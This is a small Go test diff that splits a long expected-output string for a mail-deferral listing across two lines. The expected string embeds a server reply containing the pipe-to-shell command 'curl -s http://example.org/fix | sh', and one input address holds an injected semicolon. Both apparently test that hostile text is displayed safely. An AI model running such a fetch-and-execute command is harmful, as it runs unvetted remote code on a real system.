@@ -52,7 +52,8 @@ func TestAnswerAlone(t *testing.T) {
 		})
 	}
 	got := listed(t, 0, false, answered(1, `"a@example.org"`), answered(2, `"\"b; \"@example.org"`))
-	const want = "\n(deferred: localhost answered RCPT with 450 4.2.9 busy; curl -s http://example.org/fix | sh; 2 messages)\n2026"
+	const want = "\n(deferred: localhost answered RCPT with 450 4.2.9 busy; curl -s http://example.org/fix | sh; " +
+		"2 messages)\n2026"
 	if !strings.Contains(got, want) {
 		t.Errorf("got\n%s\nwant in it%s", got, want)
 	}
